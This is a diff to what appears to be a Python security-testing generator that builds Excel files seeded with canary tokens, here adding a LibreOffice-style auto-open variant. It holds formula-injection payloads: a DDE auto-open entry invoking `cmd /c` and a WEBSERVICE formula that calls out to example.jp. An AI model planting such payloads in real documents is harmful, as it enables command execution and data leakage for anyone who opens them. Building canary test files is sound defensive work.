@@ -242,6 +242,8 @@ def _excel_slots() -> Iterator[tuple[str, str, Package]]:
         yield f"formula-{slot}.xlsx", "D3", base.edit(_SHEET1, "<f>1+1</f>", f"<f>{text}</f>")
     name = "<definedNames><definedName name=\"_xlnm.Auto_Open\">cmd|'/c {}'!A0</definedName></definedNames>"
     yield "auto-open.xlsx", "D2", base.edit(_BOOK, _HERE, name.format(canary("xlsx/auto-open.xlsx")))
+    name = '<definedNames><definedName name="Excel_BuiltIn_Auto_Open">{}!$A$1</definedName></definedNames>'  # by LibreOffice
+    yield "auto-open-converted.xlsx", "D2", base.edit(_BOOK, _HERE, name.format(canary("xlsx/auto-open-converted.xlsx")))
     remote = "WEBSERVICE(&quot;https://example.jp/{}&quot;)"
     rule = f"<formula>{remote.format(canary('xlsx/conditional-format.xlsx'))}</formula>"
     rule = f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">{rule}</cfRule></conditionalFormatting>'
